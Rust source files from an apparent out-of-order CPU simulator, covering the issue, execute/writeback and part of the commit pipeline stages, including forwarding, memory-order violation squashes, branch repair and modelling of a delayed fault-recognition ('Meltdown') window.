                    if fu_avail[pool] == 0 {
                        self.stats.fu_busy.inc(class);
                    }
                }
            }
            issued_this_cycle += 1;
            let v = p.exec.execute_at_issue(seq, w);
            // Per-issue bookkeeping lives here (the IQ owns it).
            self.stats.issued_inst_type.inc(class);
            let dispatch = w.window.inst_of(seq).dispatch_cycle;
            self.stats
                .issue_delay
                .0
                .record(w.cycle.saturating_sub(dispatch) as f64);
            self.stats.power.dynamic_energy.add(1.1);
            if let Some(v) = v {
                violation = Some(v);
                break;
            }
        }

        self.epilogue(p.exec, issued_this_cycle, violation)
    }
}

impl PipelineComponent for IssueStage {
    type Ports<'a> = IssuePorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Iq
    }

    fn tick(&mut self, p: IssuePorts<'_>) -> Option<SquashRequest> {
        if p.wake.cfg.reference_scan {
            self.tick_reference(p)
        } else {
            self.tick_ready_queues(p)
        }
    }

    fn reset(&mut self) {
        self.stats = IqStats::default();
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        self.stats
            .visit(&join_prefix(prefix, ComponentId::Iq.prefix()), v);
    }
}
