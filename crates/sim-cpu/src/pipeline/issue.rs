//! The issue stage: wakeup/select over the instruction queue, functional
//! unit arbitration, and dispatch into execute through the
//! [`FuWakeup`] port.

use uarch_isa::OpClass;
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::stats::IqStats;

use super::execute::{ExecuteStage, FuWakeup};
use super::{join_prefix, PipelineComponent, SquashRequest};

/// The issue stage. Owns the `iq` statistic group; the instructions it
/// schedules live in the shared window.
#[derive(Debug, Default)]
pub struct IssueStage {
    pub(crate) stats: IqStats,
}

/// Issue's view of the machine for one tick: the execute stage it wakes
/// up, and the machine resources the functional units touch.
pub struct IssuePorts<'a> {
    pub(crate) exec: &'a mut ExecuteStage,
    pub(crate) wake: FuWakeup<'a>,
}

fn fu_pool(class: OpClass) -> usize {
    match class {
        OpClass::IntAlu | OpClass::NoOpClass => 0,
        OpClass::IntMult | OpClass::IntDiv => 1,
        OpClass::FloatAdd
        | OpClass::FloatMult
        | OpClass::FloatDiv
        | OpClass::FloatSqrt
        | OpClass::FloatCvt => 2,
        OpClass::SimdAdd | OpClass::SimdMult | OpClass::SimdCvt => 3,
        OpClass::MemRead | OpClass::MemWrite | OpClass::FloatMemRead | OpClass::FloatMemWrite => 4,
    }
}

impl PipelineComponent for IssueStage {
    type Ports<'a> = IssuePorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Iq
    }

    fn tick(&mut self, mut p: IssuePorts<'_>) -> Option<SquashRequest> {
        let w = &mut p.wake;
        let mut fu_avail = [
            w.cfg.int_alu_units,
            w.cfg.int_mult_units,
            w.cfg.fp_units,
            w.cfg.simd_units,
            w.cfg.mem_ports,
        ];
        let mut issued_this_cycle = 0usize;
        let mut violation: Option<(u64, usize)> = None;

        // Gather candidates (oldest first).
        let seqs: Vec<u64> = w.window.rob.iter().map(|d| d.seq).collect();
        for seq in seqs {
            if issued_this_cycle >= w.cfg.issue_width {
                break;
            }
            let (ready, class) = {
                let d = w.window.inst_of(seq);
                if !d.in_iq || d.issued || d.squashed {
                    continue;
                }
                if d.non_spec && !d.can_exec_non_spec {
                    continue;
                }
                let srcs_ready = d.srcs.iter().flatten().all(|&r| w.regs.phys_ready[r]);
                (srcs_ready, d.inst.op_class())
            };
            if !ready {
                continue;
            }
            let pool = fu_pool(class);
            if class != OpClass::NoOpClass && class != OpClass::IntAlu && fu_avail[pool] == 0 {
                self.stats.fu_full.inc(class);
                continue;
            }
            if matches!(
                class,
                OpClass::MemRead
                    | OpClass::MemWrite
                    | OpClass::FloatMemRead
                    | OpClass::FloatMemWrite
            ) && fu_avail[4] == 0
            {
                self.stats.fu_full.inc(class);
                continue;
            }
            // Loads blocked by a saturated L1D MSHR pool reschedule.
            if w.window.inst_of(seq).is_load() {
                let outstanding = w
                    .window
                    .rob
                    .iter()
                    .filter(|d| d.mem_outstanding && !d.squashed)
                    .count();
                if outstanding >= w.mem.l1d().config().mshrs {
                    p.exec.stats.lsq.rescheduled_loads.inc();
                    p.exec.stats.lsq.blocked_loads.inc();
                    p.exec.stats.lsq.cache_blocked.inc();
                    continue;
                }
            }

            if class != OpClass::NoOpClass {
                let pool = if matches!(
                    class,
                    OpClass::MemRead
                        | OpClass::MemWrite
                        | OpClass::FloatMemRead
                        | OpClass::FloatMemWrite
                ) {
                    4
                } else {
                    pool
                };
                if fu_avail[pool] > 0 {
                    fu_avail[pool] -= 1;
                    if fu_avail[pool] == 0 {
                        self.stats.fu_busy.inc(class);
                    }
                }
            }
            issued_this_cycle += 1;
            let v = p.exec.execute_at_issue(seq, w);
            // Per-issue bookkeeping lives here (the IQ owns it).
            self.stats.issued_inst_type.inc(class);
            let dispatch = w.window.inst_of(seq).dispatch_cycle;
            self.stats
                .issue_delay
                .0
                .record(w.cycle.saturating_sub(dispatch) as f64);
            self.stats.power.dynamic_energy.add(1.1);
            if let Some(v) = v {
                violation = Some(v);
                break;
            }
        }

        self.stats.insts_issued.add(issued_this_cycle as u64);
        self.stats
            .issued_per_cycle
            .0
            .record(issued_this_cycle as f64);
        if issued_this_cycle == 0 {
            self.stats.empty_issue_cycles.inc();
            p.exec.stats.idle_cycles.inc();
        }

        if let Some((load_seq, load_pc)) = violation {
            // Memory order violation: squash from the conflicting load
            // (the rollback point and the redirect pc MUST come from the
            // same scan, or instructions between them are silently lost).
            p.exec.stats.mem_order_violation_events.inc();
            p.exec.stats.lsq.mem_order_violation.inc();
            p.exec.stats.mem_dep.conflicting_stores.inc();
            p.exec.stats.mem_dep.conflicting_loads.inc();
            return Some(SquashRequest {
                after: load_seq - 1,
                redirect: Some(load_pc),
                trap: None,
            });
        }
        None
    }

    fn reset(&mut self) {
        self.stats = IqStats::default();
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        self.stats
            .visit(&join_prefix(prefix, ComponentId::Iq.prefix()), v);
    }
}
