//! The execute/writeback stage: functional-unit evaluation at issue
//! (through the [`FuWakeup`] port), completion and writeback, branch
//! resolution and predictor repair.
//!
//! Completion is event-driven on the fast path: issue pushes each
//! instruction's `(ready_cycle, seq)` onto a min-heap and the tick pops
//! the entries due this cycle, instead of scanning the whole window.
//! Stale entries (squashed instructions) are dropped lazily when popped.
//! `CoreConfig::reference_scan` keeps the original full scan available.

use std::cmp::Reverse;
use std::collections::BinaryHeap;

use sim_mem::{AccessOutcome, MemoryHierarchy};
use uarch_isa::{AluOp, FaluOp, Inst, OpClass, Program};
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::config::CoreConfig;
use crate::core::KERNEL_SPACE_BASE;
use crate::stats::{CpuStats, IewStats, IqStats, TlbStats};
use crate::tlb::Tlb;

use super::{join_prefix, PipelineComponent, Predictors, RegFile, SquashRequest, Window};

/// The execute/writeback stage.
///
/// Owns the D-TLB and the `iew` statistic group (including its `lsq` and
/// `memDep` sub-units, also published under their top-level aliases) plus
/// the `dtb`/`dtlb` TLB counters.
#[derive(Debug)]
pub struct ExecuteStage {
    pub(crate) dtlb: Tlb,
    pub(crate) stats: IewStats,
    pub(crate) dtb: TlbStats,
    dtlb_entries: usize,
    /// Pending completions `(ready_cycle, seq)`, min-ordered. Fed at issue,
    /// drained by the tick; unused under `CoreConfig::reference_scan`.
    pub(crate) completions: BinaryHeap<Reverse<(u64, u64)>>,
}

/// Execute's view of the machine for the completion tick.
pub struct ExecutePorts<'a> {
    pub(crate) window: &'a mut Window,
    pub(crate) regs: &'a mut RegFile,
    pub(crate) pred: &'a mut Predictors,
    pub(crate) iq_stats: &'a mut IqStats,
    pub(crate) cpu: &'a mut CpuStats,
    pub(crate) cycle: u64,
    pub(crate) reference_scan: bool,
}

/// The issue → execute wakeup port: everything a functional unit touches
/// when an instruction is evaluated at issue time.
pub struct FuWakeup<'a> {
    pub(crate) cfg: &'a CoreConfig,
    pub(crate) program: &'a Program,
    pub(crate) mem: &'a mut MemoryHierarchy,
    pub(crate) window: &'a mut Window,
    pub(crate) regs: &'a mut RegFile,
    pub(crate) cpu: &'a mut CpuStats,
    pub(crate) cycle: u64,
}

impl ExecuteStage {
    pub(crate) fn new(cfg: &CoreConfig) -> Self {
        Self {
            dtlb: Tlb::new(cfg.dtlb_entries, 20),
            stats: IewStats::default(),
            dtb: TlbStats::default(),
            dtlb_entries: cfg.dtlb_entries,
            completions: BinaryHeap::new(),
        }
    }

    /// The earliest cycle at which a pending completion becomes due, after
    /// discarding stale (squashed) heap entries. Used by the core's
    /// tick-skip to bound how far the clock may jump.
    pub(crate) fn next_completion(&mut self, window: &Window) -> Option<u64> {
        while let Some(&Reverse((ready, seq))) = self.completions.peek() {
            match window.find(seq) {
                Some(d) if d.issued && !d.executed && !d.squashed => return Some(ready),
                _ => {
                    self.completions.pop();
                }
            }
        }
        None
    }

    pub(crate) fn exec_latency(class: OpClass) -> u64 {
        match class {
            OpClass::NoOpClass => 1,
            OpClass::IntAlu => 1,
            OpClass::IntMult => 3,
            OpClass::IntDiv => 12,
            OpClass::FloatAdd => 4,
            OpClass::FloatMult => 5,
            OpClass::FloatDiv => 12,
            OpClass::FloatSqrt => 16,
            OpClass::FloatCvt => 3,
            OpClass::SimdAdd | OpClass::SimdMult | OpClass::SimdCvt => 2,
            OpClass::MemRead | OpClass::FloatMemRead => 1,
            OpClass::MemWrite | OpClass::FloatMemWrite => 1,
        }
    }

    /// Computes an instruction's result as it issues; returns a detected
    /// memory-order violation `(load_seq, load_pc)` if one occurred.
    pub(crate) fn execute_at_issue(
        &mut self,
        seq: u64,
        w: &mut FuWakeup<'_>,
    ) -> Option<(u64, usize)> {
        let d = w.window.inst_of(seq).clone();
        let v = |i: usize| -> u64 { d.srcs[i].map(|p| w.regs.phys_regs[p]).unwrap_or(0) };
        let class = d.class;
        let base_lat = Self::exec_latency(class);
        let mut ready = w.cycle + base_lat;
        let mut result = 0u64;
        let mut eff_addr = None;
        let mut mem_size = 0u64;
        let mut fault = false;
        let mut forwarded = false;
        let mut mem_outstanding = false;
        let mut actual_taken = false;
        let mut actual_target = d.fall_through;
        let mut violation = None;
        let mut fwd_youngest_out: Option<u64> = None;

        w.cpu
            .int_regfile_reads
            .add(d.srcs.iter().flatten().count() as u64);

        match d.inst {
            Inst::Li { imm, .. } => result = imm as u64,
            Inst::Alu { op, .. } => {
                result = alu_compute(op, v(0), v(1));
                w.cpu.int_alu_accesses.inc();
            }
            Inst::AluI { op, imm, .. } => {
                result = alu_compute(op, v(0), imm as u64);
                w.cpu.int_alu_accesses.inc();
            }
            Inst::Falu { op, .. } => {
                result = falu_compute(op, v(0), v(1));
                w.cpu.fp_alu_accesses.inc();
            }
            Inst::Load { offset, width, .. } => {
                let addr = v(0).wrapping_add(offset as u64);
                eff_addr = Some(addr);
                mem_size = width.bytes();
                self.stats.mem_dep.lookups.inc();
                let (tlb_lat, tlb_miss) = self.dtlb.access(addr);
                self.dtb.rd_accesses.inc();
                if tlb_miss {
                    self.dtb.rd_misses.inc();
                    self.dtb.walk_cycles.add(tlb_lat);
                } else {
                    self.dtb.rd_hits.inc();
                }
                fault = addr >= KERNEL_SPACE_BASE || w.program.is_kernel_addr(addr);
                // Store-to-load forwarding: merge, byte by byte, the
                // youngest older in-flight store covering each loaded byte
                // over the memory image (uncommitted stores are only
                // visible in the store queue, not in memory).
                let mut any_fwd = false;
                let mut all_fwd = true;
                let mut fwd_oldest: Option<u64> = None;
                let mut bytes = [0u8; 8];
                for (k, byte) in bytes.iter_mut().enumerate().take(mem_size as usize) {
                    let b_addr = addr + k as u64;
                    let src = w
                        .window
                        .rob
                        .iter()
                        .filter(|s| {
                            s.seq < seq
                                && s.is_store()
                                && s.issued
                                && !s.squashed
                                && s.eff_addr
                                    .is_some_and(|sa| sa <= b_addr && b_addr < sa + s.mem_size)
                        })
                        .max_by_key(|s| s.seq);
                    match src {
                        Some(st) => {
                            let sa = st.eff_addr.expect("checked");
                            *byte = (st.result >> ((b_addr - sa) * 8)) as u8;
                            any_fwd = true;
                            fwd_oldest = Some(fwd_oldest.map_or(st.seq, |f: u64| f.min(st.seq)));
                        }
                        None => {
                            *byte = w.mem.memory().read_byte(b_addr);
                            all_fwd = false;
                        }
                    }
                }
                // The violation-check exemption is only sound when EVERY
                // byte came from the store queue; the oldest contributor
                // bounds which later-resolving stores can be ignored.
                fwd_youngest_out = if all_fwd { fwd_oldest } else { None };
                if any_fwd {
                    result = bytes[..mem_size as usize]
                        .iter()
                        .enumerate()
                        .fold(0u64, |v, (k, &b)| v | (b as u64) << (8 * k));
                    if all_fwd {
                        // Cleanly satisfied by the store queue.
                        forwarded = true;
                        ready = w.cycle + 2 + tlb_lat;
                        self.stats.lsq.forw_loads.inc();
                        self.stats.lsq.forw_distance.0.record(1.0);
                    } else {
                        // Partial overlap: merge and replay more slowly.
                        ready = w.cycle + 10 + tlb_lat;
                        self.stats.lsq.rescheduled_loads.inc();
                    }
                } else {
                    let res = w.mem.load(addr, mem_size, w.cycle + tlb_lat);
                    result = res.value;
                    ready = w.cycle + base_lat + tlb_lat + res.latency;
                    mem_outstanding = res.outcome != AccessOutcome::L1Hit;
                    self.stats
                        .lsq
                        .load_latency
                        .0
                        .record((ready - w.cycle) as f64);
                }
            }
            Inst::Store { offset, width, .. } => {
                let addr = v(0).wrapping_add(offset as u64);
                eff_addr = Some(addr);
                mem_size = width.bytes();
                result = v(1); // store data
                let (tlb_lat, tlb_miss) = self.dtlb.access(addr);
                self.dtb.wr_accesses.inc();
                if tlb_miss {
                    self.dtb.wr_misses.inc();
                    self.dtb.walk_cycles.add(tlb_lat);
                } else {
                    self.dtb.wr_hits.inc();
                }
                ready = w.cycle + base_lat + tlb_lat;
                fault = addr >= KERNEL_SPACE_BASE || w.program.is_kernel_addr(addr);
                // Memory-order violation: a younger load already executed
                // against this address.
                let conflict = w
                    .window
                    .rob
                    .iter()
                    .filter(|l| {
                        l.seq > seq
                            && l.is_load()
                            && l.issued
                            && !l.squashed
                            // A load whose bytes all came from a store
                            // younger than this one cannot have read stale
                            // data; anything else (memory bytes, or bytes
                            // from an older store) must replay.
                            && l.fwd_youngest_seq.is_none_or(|f| f < seq)
                            && l.eff_addr.is_some_and(|la| {
                                la < addr + mem_size && addr < la + l.mem_size
                            })
                    })
                    .map(|l| (l.seq, l.pc))
                    .min();
                if let Some((lseq, lpc)) = conflict {
                    violation = Some((lseq, lpc));
                }
            }
            Inst::Branch { cond, .. } => {
                actual_taken = cond.eval(v(0), v(1));
                actual_target = if actual_taken {
                    branch_target(d.inst)
                } else {
                    d.fall_through
                };
            }
            Inst::Jump { target } => {
                actual_taken = true;
                actual_target = target;
            }
            Inst::JumpInd { .. } => {
                actual_taken = true;
                actual_target = v(0) as usize;
                ready = w.cycle + 3; // indirect target resolution
            }
            Inst::Call { target } => {
                actual_taken = true;
                actual_target = target;
            }
            Inst::CallInd { .. } => {
                actual_taken = true;
                actual_target = v(0) as usize;
                ready = w.cycle + 3;
            }
            Inst::Ret => {
                actual_taken = true;
                actual_target = d.actual_target; // resolved at rename
                ready = w.cycle + 8; // return address stack-memory read
            }
            Inst::SetRet { .. } => {
                // Effect applied at rename; execution is a no-op.
            }
            Inst::Flush { offset, .. } => {
                let addr = v(0).wrapping_add(offset as u64);
                eff_addr = Some(addr);
                let lat = w.mem.flush_line(addr, w.cycle);
                self.stats.flush_latency.0.record(lat as f64);
                ready = w.cycle + lat;
            }
            Inst::Fence => {
                ready = w.cycle + 1;
            }
            Inst::Membar => {
                ready = w.cycle + w.cfg.membar_drain;
            }
            Inst::RdCycle { .. } => {
                result = w.cycle;
                w.cpu.misc_regfile_reads.inc();
                w.cpu.misc_regfile_writes.inc();
            }
            Inst::Mark(_) | Inst::Nop | Inst::Halt => {}
        }

        {
            let now = w.cycle;
            let di = w.window.inst_mut(seq);
            di.issued = true;
            di.issue_cycle = now;
            di.in_iq = false;
            di.result = result;
            di.ready_cycle = ready;
            di.eff_addr = eff_addr;
            di.mem_size = mem_size;
            di.fault = fault;
            di.forwarded = forwarded;
            di.fwd_youngest_seq = fwd_youngest_out;
            di.mem_outstanding = mem_outstanding;
            di.actual_taken = actual_taken;
            if !matches!(di.inst, Inst::Ret) {
                di.actual_target = actual_target;
            }
        }
        if mem_outstanding {
            w.window.mem_outstanding_count += 1;
        }
        if !w.cfg.reference_scan {
            self.completions.push(Reverse((ready, seq)));
        }
        w.window.iq_used -= 1;
        violation
    }

    /// Resolves one control instruction, updating predictor state; returns
    /// the squash request on a misprediction.
    fn resolve_branch(
        &mut self,
        seq: u64,
        mispredict: bool,
        p: &mut ExecutePorts<'_>,
    ) -> Option<SquashRequest> {
        let (inst, pc, taken, pred_taken, cp, actual_target) = {
            let d = p.window.inst_of(seq);
            (
                d.inst,
                d.pc,
                d.actual_taken,
                d.predicted_taken,
                d.checkpoint,
                d.actual_target,
            )
        };
        self.stats.exec_branches.inc();
        {
            let fetched_at = p.window.inst_of(seq).fetch_cycle;
            self.stats
                .resolution_delay
                .0
                .record(p.cycle.saturating_sub(fetched_at) as f64);
        }

        match inst {
            Inst::Branch { .. } => {
                p.pred.bp.update(pc, taken, pred_taken, &cp);
                p.pred.stats.updates.inc();
                if mispredict {
                    p.pred.stats.cond_incorrect.inc();
                    if pred_taken {
                        self.stats.predicted_taken_incorrect.inc();
                    } else {
                        self.stats.predicted_not_taken_incorrect.inc();
                    }
                }
                if taken {
                    p.pred.btb.update(pc, actual_target);
                }
            }
            Inst::JumpInd { .. } | Inst::CallInd { .. } => {
                if mispredict {
                    p.pred.stats.indirect_mispredicted.inc();
                }
                p.pred.btb.update(pc, actual_target);
            }
            Inst::Ret if mispredict => {
                p.pred.stats.ras_incorrect.inc();
            }
            Inst::Jump { .. } | Inst::Call { .. } => {
                p.pred.btb.update(pc, actual_target);
            }
            _ => {}
        }

        if mispredict {
            {
                let d = p.window.inst_mut(seq);
                d.mispredicted = true;
            }
            self.stats.branch_mispredicts.inc();
            // Repair speculative predictor state.
            if matches!(inst, Inst::Branch { .. }) {
                // bp.update already repaired the GHR.
            } else {
                p.pred.bp.restore_ghr(cp.ghr);
            }
            p.pred.ras.restore(cp.ras_tos, cp.ras_top);
            // Re-apply this instruction's own RAS operation.
            match inst {
                Inst::Call { .. } | Inst::CallInd { .. } => p.pred.ras.push(pc + 1),
                Inst::Ret => {
                    let _ = p.pred.ras.pop();
                }
                _ => {}
            }
            return Some(SquashRequest {
                after: seq,
                redirect: Some(actual_target),
                trap: None,
            });
        }
        None
    }
}

impl PipelineComponent for ExecuteStage {
    type Ports<'a> = ExecutePorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Iew
    }

    fn tick(&mut self, mut p: ExecutePorts<'_>) -> Option<SquashRequest> {
        // Collect completions this cycle: pop everything due from the
        // min-heap (fast path) or scan the window (reference), then process
        // in sequence order — the order the reference scan visits them.
        let mut completions: Vec<u64> = Vec::new();
        if p.reference_scan {
            for d in &p.window.rob {
                if d.issued && !d.executed && !d.squashed && d.ready_cycle <= p.cycle {
                    completions.push(d.seq);
                }
            }
        } else {
            while let Some(&Reverse((ready, _))) = self.completions.peek() {
                if ready > p.cycle {
                    break;
                }
                let Reverse((_, seq)) = self.completions.pop().expect("peeked");
                // Lazy validation: squashed instructions leave stale entries.
                if let Some(d) = p.window.find(seq) {
                    if d.issued && !d.executed && !d.squashed {
                        completions.push(seq);
                    }
                }
            }
            completions.sort_unstable();
        }
        for (i, &seq) in completions.iter().enumerate() {
            let (dest, result, is_ctrl, is_load, was_outstanding) = {
                let d = p.window.inst_mut(seq);
                d.executed = true;
                let was = d.mem_outstanding;
                d.mem_outstanding = false;
                (d.dest_phys, d.result, d.is_ctrl(), d.is_load(), was)
            };
            if was_outstanding {
                p.window.mem_outstanding_count -= 1;
            }
            if let Some(phys) = dest {
                p.regs.phys_regs[phys] = result;
                p.regs.phys_ready[phys] = true;
                p.cpu.int_regfile_writes.inc();
                if !p.reference_scan {
                    // Wakeup network: re-check every instruction waiting on
                    // this register; the fully-ready ones join their pool's
                    // ready set (non-speculative ones wait for commit's
                    // authorization instead).
                    let waiters = std::mem::take(&mut p.regs.dependents[phys]);
                    for wseq in waiters {
                        let Some(d) = p.window.find(wseq) else {
                            continue;
                        };
                        if !d.in_iq || d.issued || d.squashed {
                            continue;
                        }
                        if (d.non_spec && !d.can_exec_non_spec)
                            || !d.srcs.iter().flatten().all(|&r| p.regs.phys_ready[r])
                        {
                            continue;
                        }
                        let pool = d.pool;
                        p.window.ready[pool].insert(wseq);
                    }
                }
            }
            self.stats.executed_insts.inc();
            self.stats.power.dynamic_energy.add(1.4);
            {
                let class = p.window.inst_of(seq).class;
                p.iq_stats.executed_class.inc(class);
            }
            if is_load {
                self.stats.executed_load_insts.inc();
            }
            if is_ctrl {
                // Resolve at most one control instruction per cycle (the
                // oldest); younger ones will re-resolve after any squash.
                let mispredict = {
                    let d = p.window.inst_of(seq);
                    d.predicted_target != d.actual_target
                        || (matches!(d.inst, Inst::Branch { .. })
                            && d.predicted_taken != d.actual_taken)
                };
                let req = self.resolve_branch(seq, mispredict, &mut p);
                if req.is_some() {
                    // Squash requested; stop processing younger completions
                    // (the orchestrator squashes them before issue runs).
                    // The unprocessed tail goes back on the heap; entries
                    // the squash kills validate out when next popped.
                    if !p.reference_scan {
                        for &later in &completions[i + 1..] {
                            self.completions.push(Reverse((p.cycle, later)));
                        }
                    }
                    return req;
                }
            }
        }
        None
    }

    fn reset(&mut self) {
        let entries = self.dtlb_entries;
        *self = Self {
            dtlb: Tlb::new(entries, 20),
            stats: IewStats::default(),
            dtb: TlbStats::default(),
            dtlb_entries: entries,
            completions: BinaryHeap::new(),
        };
    }

    fn visit_stats(&self, prefix: &str, v: &mut dyn StatVisitor) {
        let iew = ComponentId::Iew;
        self.stats.visit(&join_prefix(prefix, iew.prefix()), v);
        self.stats
            .lsq
            .visit(&join_prefix(prefix, iew.alias_prefixes()[0]), v);
        self.stats
            .mem_dep
            .visit(&join_prefix(prefix, iew.alias_prefixes()[1]), v);
        let dtb = ComponentId::Dtb;
        self.dtb.visit(&join_prefix(prefix, dtb.prefix()), v);
        self.dtb
            .visit(&join_prefix(prefix, dtb.alias_prefixes()[0]), v);
    }
}

pub(crate) fn branch_target(inst: Inst) -> usize {
    match inst {
        Inst::Branch { target, .. } => target,
        _ => unreachable!("only conditional branches"),
    }
}

pub(crate) fn alu_compute(op: AluOp, a: u64, b: u64) -> u64 {
    match op {
        AluOp::Add => a.wrapping_add(b),
        AluOp::Sub => a.wrapping_sub(b),
        AluOp::Mul => a.wrapping_mul(b),
        AluOp::Div => {
            if b == 0 {
                u64::MAX
            } else {
                ((a as i64).wrapping_div(b as i64)) as u64
            }
        }
        AluOp::Rem => {
            if b == 0 {
                a
            } else {
                ((a as i64).wrapping_rem(b as i64)) as u64
            }
        }
        AluOp::And => a & b,
        AluOp::Or => a | b,
        AluOp::Xor => a ^ b,
        AluOp::Shl => a.wrapping_shl(b as u32 & 63),
        AluOp::Shr => a.wrapping_shr(b as u32 & 63),
        AluOp::Sar => ((a as i64).wrapping_shr(b as u32 & 63)) as u64,
        AluOp::Slt => ((a as i64) < (b as i64)) as u64,
        AluOp::Sltu => (a < b) as u64,
    }
}

pub(crate) fn falu_compute(op: FaluOp, a: u64, b: u64) -> u64 {
    let fa = f64::from_bits(a);
    let fb = f64::from_bits(b);
    match op {
        FaluOp::FAdd => (fa + fb).to_bits(),
        FaluOp::FSub => (fa - fb).to_bits(),
        FaluOp::FMul => (fa * fb).to_bits(),
        FaluOp::FDiv => (fa / fb).to_bits(),
        FaluOp::FSqrt => fa.abs().sqrt().to_bits(),
        FaluOp::FCvtIf => (a as i64 as f64).to_bits(),
        FaluOp::FCvtFi => fa as i64 as u64,
        FaluOp::VAdd | FaluOp::VMul | FaluOp::VCvt => {
            let mut out = 0u64;
            for lane in 0..4 {
                let la = (a >> (16 * lane)) as u16;
                let lb = (b >> (16 * lane)) as u16;
                let r = match op {
                    FaluOp::VAdd => la.wrapping_add(lb),
                    FaluOp::VMul => la.wrapping_mul(lb),
                    _ => la.min(255),
                };
                out |= (r as u64) << (16 * lane);
            }
            out
        }
    }
}
