//! The commit stage: in-order retirement, fault recognition and trap
//! delivery, rename-map and call-stack retirement.

use sim_mem::MemoryHierarchy;
use uarch_isa::{Inst, OpClass, Program};
use uarch_stats::registry::ComponentId;
use uarch_stats::{StatGroup, StatVisitor};

use crate::config::CoreConfig;
use crate::core::MarkEvent;
use crate::stats::{CommitStats, CpuStats, IewStats, RobStats};

use super::rename::RenameStage;
use super::{join_prefix, PipelineComponent, RegFile, SquashRequest, TrapRequest, Window};

/// The commit stage. Owns the fault-recognition timer and the `commit`
/// and `rob` statistic groups.
#[derive(Debug, Default)]
pub struct CommitStage {
    pub(crate) fault_recognized_at: Option<u64>,
    pub(crate) stats: CommitStats,
    pub(crate) rob: RobStats,
}

/// Commit's view of the machine for one tick.
pub struct CommitPorts<'a> {
    pub(crate) cfg: &'a CoreConfig,
    pub(crate) program: &'a Program,
    pub(crate) mem: &'a mut MemoryHierarchy,
    pub(crate) window: &'a mut Window,
    pub(crate) regs: &'a mut RegFile,
    /// Rename retirement port: committed mappings and call-stack history.
    pub(crate) rename: &'a mut RenameStage,
    pub(crate) iew_stats: &'a mut IewStats,
    pub(crate) cpu: &'a mut CpuStats,
    pub(crate) cycle: u64,
    pub(crate) committed: &'a mut u64,
    pub(crate) halted: &'a mut bool,
    pub(crate) marks: &'a mut Vec<MarkEvent>,
}

impl PipelineComponent for CommitStage {
    type Ports<'a> = CommitPorts<'a>;

    fn component_id(&self) -> ComponentId {
        ComponentId::Commit
    }

    fn tick(&mut self, p: CommitPorts<'_>) -> Option<SquashRequest> {
        let mut committed_this_cycle = 0u64;
        for _ in 0..p.cfg.commit_width {
            let Some(head) = p.window.rob.front() else {
                self.stats.idle_cycles.inc();
                break;
            };
            if !head.executed {
                if head.non_spec {
                    self.stats.non_spec_stalls.inc();
                    if !head.can_exec_non_spec {
                        let seq = head.seq;
                        let d = p.window.inst_mut(seq);
                        d.can_exec_non_spec = true;
                        // Authorization is the wakeup event non-speculative
                        // instructions wait for: if the sources are already
                        // ready, join the ready set now (otherwise the
                        // source-completion wakeup will, seeing the flag).
                        if !p.cfg.reference_scan {
                            let pool = d.pool;
                            let srcs = d.srcs;
                            if srcs.iter().flatten().all(|&r| p.regs.phys_ready[r]) {
                                p.window.ready[pool].insert(seq);
                            }
                        }
                    }
                }
                break;
            }

            let head = p.window.rob.front().expect("checked above");
            if head.fault {
                // Exception recognition takes a few cycles; dependents of the
                // faulting instruction keep executing speculatively in that
                // window (the Meltdown window).
                match self.fault_recognized_at {
                    None => {
                        self.fault_recognized_at = Some(p.cycle + p.cfg.fault_recognition_delay);
                        break;
                    }
                    Some(at) if p.cycle < at => break,
                    Some(_) => self.fault_recognized_at = None,
                }
                self.stats.faults.inc();
                p.cpu.traps.inc();
                let seq = head.seq;
                let handler = p.program.fault_handler();
                // The squash walk and the trap delivery both happen in the
                // orchestrator, in that order, exactly as the monolithic
                // commit performed them inline. The per-cycle commit-width
                // distribution is intentionally NOT recorded on this path
                // (the original returned early before recording it).
                return Some(SquashRequest {
                    after: seq.wrapping_sub(1),
                    redirect: None,
                    trap: Some(TrapRequest { handler }),
                });
            }

            let head = p.window.rob.pop_front().expect("checked above");
            committed_this_cycle += 1;
            *p.committed += 1;
            self.stats.committed_insts.inc();
            self.stats.committed_ops.inc();
            self.rob.reads.inc();
            let class = head.class;
            self.stats.op_class.inc(class);
            match class {
                OpClass::IntAlu | OpClass::IntMult | OpClass::IntDiv => self.stats.int_insts.inc(),
                OpClass::FloatAdd
                | OpClass::FloatMult
                | OpClass::FloatDiv
                | OpClass::FloatSqrt
                | OpClass::FloatCvt => self.stats.fp_insts.inc(),
                _ => {}
            }

            match head.inst {
                Inst::Load { .. } => {
                    self.stats.loads.inc();
                    self.stats.refs.inc();
                    p.window.lq_used -= 1;
                }
                Inst::Store { rs: _, width, .. } => {
                    self.stats.committed_stores.inc();
                    self.stats.refs.inc();
                    p.iew_stats
                        .lsq
                        .store_lifetime
                        .0
                        .record(p.cycle.saturating_sub(head.dispatch_cycle) as f64);
                    p.window.sq_used -= 1;
                    let addr = head.eff_addr.expect("store executed");
                    p.mem.store(addr, width.bytes(), head.result, p.cycle);
                }
                Inst::Flush { .. } => {
                    self.stats.refs.inc();
                }
                Inst::Membar => {
                    self.stats.membars.inc();
                    p.window.membars_in_flight -= 1;
                }
                Inst::Call { .. } | Inst::CallInd { .. } => {
                    self.stats.function_calls.inc();
                }
                Inst::Mark(kind) => {
                    p.marks.push(MarkEvent {
                        kind,
                        at_inst: *p.committed,
                        at_cycle: p.cycle,
                    });
                }
                Inst::Halt => {
                    *p.halted = true;
                }
                _ => {}
            }

            if head.is_ctrl() {
                self.stats.branches.inc();
                if let Some(k) = head.ctrl_kind {
                    self.stats.control_kind.inc(k);
                }
                if head.mispredicted {
                    self.stats.branch_mispredicts.inc();
                }
            }
            self.stats
                .commit_latency
                .0
                .record(p.cycle.saturating_sub(head.dispatch_cycle) as f64);
            self.stats.power.dynamic_energy.add(1.0);

            // Retire the rename mapping.
            while let Some(h) = p.regs.history.front() {
                if h.seq != head.seq {
                    break;
                }
                let h = p.regs.history.pop_front().expect("checked");
                p.regs.free_list.push_back(h.old_phys);
                p.rename.stats.committed_maps.inc();
            }
            while let Some(&(seq, _)) = p.rename.call_hist.front() {
                if seq != head.seq {
                    break;
                }
                p.rename.call_hist.pop_front();
            }

            if *p.halted {
                break;
            }
        }
        self.stats
            .committed_per_cycle
            .0
